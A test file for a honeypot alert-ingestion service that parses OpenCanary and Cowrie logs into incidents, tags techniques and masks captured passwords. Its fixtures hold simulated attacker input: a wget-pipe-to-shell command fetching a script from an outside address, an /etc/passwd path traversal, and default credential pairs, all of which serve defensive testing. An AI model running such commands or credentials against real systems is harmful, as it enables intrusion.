import { afterAll, beforeAll, expect, test } from "bun:test"
import { type TestDatabase, testDatabase } from "../support/db.ts"
import { createSensor, createTenant, get } from "../support/fixtures.ts"
import { ingest } from "../support/ingest.ts"
import { type RunningServer, shutdown, startServer } from "../support/server.ts"

let server: RunningServer
let db: TestDatabase
let tenant: { orgId: string; key: string }
let sensor: { id: string; token: string }

beforeAll(async () => {
  server = await startServer()
  db = testDatabase(server.env)
  tenant = await createTenant(db)
  sensor = await createSensor(db, tenant.orgId, "canary-01")
})

afterAll(() => shutdown(server, db))

const now = () => new Date()
const ocTime = (d: Date) => d.toISOString().replace("T", " ").replace("Z", "000")

test("D22: OpenCanary log lines (NDJSON) end to end, unmapped logtypes rejected with a reason", async () => {
  const t = now()
  const lines = [
    {
      dst_host: "10.0.0.5",
      dst_port: 22,
      local_time: ocTime(t),
      logdata: { SESSION: "1" },
      logtype: 4000,
      node_id: "canary-01",
      src_host: "192.0.2.77",
      src_port: 40001,
      utc_time: ocTime(t),
    },
    {
      dst_host: "10.0.0.5",
      dst_port: 22,
      local_time: ocTime(t),
      logdata: {
        LOCALVERSION: "SSH-2.0-OpenSSH_5.1p1 Debian-4",
        PASSWORD: "toor",
        REMOTEVERSION: "SSH-2.0-libssh2_1.9.0",
        USERNAME: "root",
      },
      logtype: 4002,
      node_id: "canary-01",
      src_host: "192.0.2.77",
      src_port: 40002,
      utc_time: ocTime(t),
    },
    {
      dst_host: "10.0.0.5",
      dst_port: 21,
      local_time: ocTime(t),
      logdata: { PASSWORD: "anonymous", USERNAME: "ftp" },
      logtype: 2000,
      node_id: "canary-01",
      src_host: "192.0.2.77",
      src_port: 40003,
      utc_time: ocTime(t),
    },
    {
      dst_host: "10.0.0.5",
      dst_port: 80,
      local_time: ocTime(t),
      logdata: { HOSTNAME: "intranet", PATH: "/../../etc/passwd", SKIN: "nasLogin", USERAGENT: "sqlmap/1.7" },
      logtype: 3000,
      node_id: "canary-01",
      src_host: "192.0.2.77",
      src_port: 40004,
      utc_time: ocTime(t),
    },
    {
      dst_host: "10.0.0.5",
      dst_port: 0,
      local_time: ocTime(t),
      logdata: { msg: "Canary running" },
      logtype: 1001,
      node_id: "canary-01",
      src_host: "",
      src_port: -1,
      utc_time: ocTime(t),
    },
  ]
  const res = await ingest(
    server.ingestUrl,
    "opencanary",
    sensor.token,
    lines.map((l) => JSON.stringify(l)).join("\n"),
    true,
  )
  expect(res.status).toBe(200)
  expect(res.body.accepted).toBe(4)
  expect(res.body.results[4].status).toBe("rejected")
  expect(res.body.results[4].reason).toContain("1001")
  const incidentId = res.body.results[0].incidentId
  const incident = await get(server.url, `/v1/incidents/${incidentId}`, tenant.key)
  expect(incident.body.sourceIp).toBe("192.0.2.77")
  expect(incident.body.eventCount).toBe(4)
  expect(incident.body.eventTypes).toEqual(["ftp.login_attempt", "http.request", "ssh.login_attempt", "ssh.session"])
  const sshLogin = incident.body.events.find((e: { type: string }) => e.type === "ssh.login_attempt")
  expect(sshLogin).toMatchObject({ service: "ssh", port: 22, sourcePort: 40002, action: expect.any(String) })
  expect(sshLogin.attackerInput.username).toBe("root")
  expect(sshLogin.attackerInput.password).toMatchObject({ masked: "****", length: 4 })
  expect(sshLogin.tags).toContain("default-credentials")
  const http = incident.body.events.find((e: { type: string }) => e.type === "http.request")
  expect(http.tags).toEqual(expect.arrayContaining(["path-traversal", "scanner"]))
  // Tags add techniques only on the single incident (spec "Technique").
  expect(incident.body.techniques.map((t: { id: string }) => t.id)).toContain("T1190")
  // A resent line is a duplicate.
  const again = await ingest(server.ingestUrl, "opencanary", sensor.token, JSON.stringify(lines[1]), true)
  expect(again.body.duplicates).toBe(1)
})

test("D22: Cowrie JSON events end to end", async () => {
  const t = now()
    .toISOString()
    .replace("Z", "123Z")
    .replace(/\.(\d{3})123Z$/, ".$1123Z")
  const session = "a1b2c3d4e5f6"
  const base = {
    src_ip: "192.0.2.88",
    src_port: 50123,
    dst_ip: "10.0.0.6",
    dst_port: 2222,
    session,
    sensor: "cowrie-01",
    timestamp: t,
  }
  const events = [
    {
      ...base,
      eventid: "cowrie.session.connect",
      protocol: "ssh",
      message: "New connection: 192.0.2.88:50123 (10.0.0.6:2222) [session: a1b2c3d4e5f6]",
    },
    {
      ...base,
      eventid: "cowrie.login.failed",
      username: "admin",
      password: "123456",
      message: "login attempt [admin/123456] failed",
    },
    {
      ...base,
      eventid: "cowrie.login.success",
      username: "root",
      password: "root",
      message: "login attempt [root/root] succeeded",
    },
    {
      ...base,
      eventid: "cowrie.command.input",
      input: "wget http://198.51.100.9/x.sh -O- | sh",
      message: "CMD: wget http://198.51.100.9/x.sh -O- | sh",
    },
    {
      ...base,
      eventid: "cowrie.session.file_download",
      url: "http://198.51.100.9/x.sh",
      shasum: "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
      outfile: "var/lib/cowrie/downloads/e3b0",
      message: "Downloaded URL",
    },
    { ...base, eventid: "cowrie.client.version", version: "SSH-2.0-Go", message: "Remote SSH version" },
  ]
  const res = await ingest(server.ingestUrl, "cowrie", sensor.token, events)
  expect(res.body.accepted).toBe(5)
  expect(res.body.results[5]).toMatchObject({
    status: "rejected",
    reason: expect.stringContaining("cowrie.client.version"),
  })
  const incident = await get(server.url, `/v1/incidents/${res.body.results[0].incidentId}`, tenant.key)
  expect(incident.body.eventTypes).toEqual([
    "ssh.command",
    "ssh.file_download",
    "ssh.login_attempt",
    "ssh.login_success",
    "ssh.session",
  ])
  expect(incident.body.severity).toBe("high")
  const command = incident.body.events.find((e: { type: string }) => e.type === "ssh.command")
  expect(command.attackerInput.command ?? command.attackerInput.input).toContain("wget")
  expect(command.port).toBe(2222)
  const listed = await get(server.url, "/v1/events?type=ssh.file_download&sourceIp=192.0.2.88", tenant.key)
  expect(listed.body.data).toHaveLength(1)
  expect(listed.body.data[0].techniques.map((t: { id: string }) => t.id)).toContain("T1105")
  expect(JSON.stringify(incident.body)).not.toContain("123456")
})
